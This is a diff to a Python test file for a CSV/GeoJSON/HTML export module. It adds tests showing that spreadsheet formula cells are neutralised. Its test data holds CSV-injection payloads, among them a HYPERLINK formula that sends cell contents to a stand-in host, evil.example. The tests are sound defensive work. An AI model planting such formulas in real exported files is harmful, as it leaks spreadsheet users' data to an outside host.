@@ -16,7 +16,7 @@ def test_geojson_all_layers_and_one_layer(seed_doc):
 
 
 def test_csv_has_one_row_per_mention_with_offsets_and_passage(seed_doc):
-    rows = list(csv.DictReader(io.StringIO(downloads.mentions_csv(seed_doc).decode())))
+    rows = list(csv.DictReader(io.StringIO(downloads.mentions_csv(seed_doc).decode(), newline="")))
     assert len(rows) == len(seed_doc.mentions())
     b = next(r for r in rows if r["place_id"] == "site:baikonur")
     assert seed_doc.text[int(b["start"]):int(b["end"])] == b["mention"] == "Kosmodrom Baikonur"
@@ -29,3 +29,22 @@ def test_standalone_html_loads_nothing_from_the_network(seed_doc):
     assert "L.map(" in page and "Baikonur Cosmodrome" in page
     assert "<title>seed &lt;test&gt;</title>" in page
     assert "url(images/" not in page
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(seed_doc):
+    from dataclasses import replace
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Almaty")', "+1+2", "-2+3", "@SUM(A1)",
+               "\t=1+1", "\r=1+1"]
+    places = [replace(p, name=name) for p, name in zip(seed_doc.places, hostile)]
+    places = [replace(places[0], lon=-12.5), *places[1:]]
+    doc = replace(seed_doc, places=places)
+    rows = list(csv.DictReader(io.StringIO(downloads.mentions_csv(doc).decode(), newline="")))
+    assert {r["place"] for r in rows} == {"'" + name for name in hostile}
+    assert {r["lon"] for r in rows if r["place"].startswith("'=HYPERLINK")} == {"-12.50000"}
+    assert len(rows) == len(doc.mentions())
+
+
+def test_csv_cell_leaves_ordinary_text_alone():
+    assert downloads.csv_cell("Almaty") == "Almaty"
+    assert downloads.csv_cell("Sary-Shagan") == "Sary-Shagan"
